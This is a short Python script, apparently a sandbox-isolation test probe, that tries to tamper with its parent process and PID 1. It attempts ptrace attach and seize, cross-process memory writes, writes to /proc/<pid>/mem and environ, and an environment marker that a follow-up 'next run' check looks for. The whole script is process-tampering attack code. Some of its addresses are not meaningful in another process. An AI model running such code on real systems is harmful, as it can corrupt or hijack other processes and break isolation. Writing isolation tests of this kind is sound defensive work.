"""Takes hold of the template by ptrace, by its memory, and by a page that both share."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None)
parent = os.getppid()
buffer = ctypes.create_string_buffer(b"left" * 16)
ours = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
for process in (parent, 1):
    if process == os.getpid():
        continue
    for request in (16, 0x4206):
        libc.ptrace(request, process, 0, 0)
    theirs = (ctypes.c_void_p * 2)(id(os.environ), 64)
    libc.process_vm_writev(process, ours, 1, theirs, 1, 0)
    libc.process_vm_readv(process, ours, 1, theirs, 1, 0)
    for name in ("mem", "root", "cwd", "fd/0", "environ"):
        try:
            with open(f"/proc/{process}/{name}", "r+b") as file:
                file.write(b"left")
        except OSError:
            continue
# Every mapping that is shared, were it found by its address, would be the template's, too.
for page in range(id(parent) & ~0xFFF, (id(parent) & ~0xFFF) + (64 << 12), 4096):
    libc.madvise(ctypes.c_void_p(page), 4096, mmap.MADV_DONTFORK)
os.environ["LEFT_IN_TEMPLATE"] = "yes"
# --- next run
import os


def attack():
    return "LEFT_IN_TEMPLATE" in os.environ or os.environ.get("PATH", "").startswith("left")
